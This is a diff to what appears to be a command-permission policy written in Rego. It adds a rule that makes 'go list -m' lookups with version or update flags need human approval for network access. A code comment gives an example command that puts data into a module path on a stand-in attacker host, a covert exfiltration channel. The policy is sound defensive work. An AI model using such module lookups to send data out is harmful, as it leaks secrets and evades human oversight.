@@ -585,6 +585,26 @@ registry_option(_, x) if registry_options[x]
 
 registry_option(c, x) if registry_short[c.name][x]
 
+# go list -m asks the module proxy (and through it the module's host)
+# for versions and updates: go list -m -versions evil.example/DATA
+ask contains {"rule": "ask.network", "message": "go list -m with versions or updates asks the module proxy and the modules' hosts; a person must approve network access"} if {
+	"go" in input.present.names
+	some c in commands
+	c.name == "go"
+	subcommand(c) == "list"
+	a := args(c)
+	"-m" in a
+	some x in a
+	go_list_network(x)
+}
+
+go_list_network(x) if x in {"-versions", "-u", "-retracted"}
+
+go_list_network(x) if {
+	not startswith(x, "-")
+	contains(x, "@")
+}
+
 # Build tools publish by goal or task, wherever it stands on the command
 # line (mvn clean deploy, ./gradlew build publish); publishToMavenLocal is
 # a local copy.
